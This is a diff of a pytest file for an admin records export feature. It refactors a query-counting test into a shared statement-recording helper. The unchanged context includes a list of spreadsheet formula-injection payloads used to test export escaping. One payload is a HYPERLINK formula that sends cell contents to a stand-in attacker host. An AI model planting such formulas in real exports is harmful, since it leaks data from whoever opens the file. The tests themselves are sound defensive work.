@@ -8,12 +8,11 @@ from datetime import UTC, datetime
 
 import pytest
 from openpyxl import load_workbook
-from sqlalchemy import event, select
+from sqlalchemy import select
 
-from learning.db import get_engine
 from learning.records.models import CompletionRecord
 from tests import factories
-from tests.conftest import AuthActions, csrf_token
+from tests.conftest import AuthActions, csrf_token, recorded_statements
 
 PAYLOADS = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("http://evil.example/?x="&A1,"x")',
             "\t=1+1", "\r=1+1", 'a,b"c\nd']
@@ -135,26 +134,17 @@ def test_streamed_export_returns_its_database_connection(app, admin, data):
 @pytest.mark.parametrize("url", ["/admin/records", "/admin/records/export.csv",
                                  "/admin/records/export.xlsx"])
 def test_the_list_and_exports_cost_the_same_queries_for_5_or_60_records(app, admin, db, url):
-    statements: list[str] = []
     counts: list[int] = []
-
-    def record(_conn, _cursor, statement, *_args) -> None:
-        statements.append(statement)
-
     for first, last in ((0, 5), (5, 60)):
         for number in range(first, last):
             organisation = factories.organisation(db, name=f"Organisation {number}")
             factories.record(db, factories.user(db, display_name=f"Learner {number}",
                                                 organisation=organisation))
         db.commit()
-        event.listen(get_engine(app), "before_cursor_execute", record)
-        try:
+        with recorded_statements(app) as statements:
             response = admin.get(url)
             body = response.get_data()  # exports stream: read them to the end
-        finally:
-            event.remove(get_engine(app), "before_cursor_execute", record)
         assert response.status_code == 200
         assert b"Learner 4" in body or url.endswith(".xlsx")
         counts.append(len(statements))
-        statements.clear()
     assert counts[0] == counts[1], counts
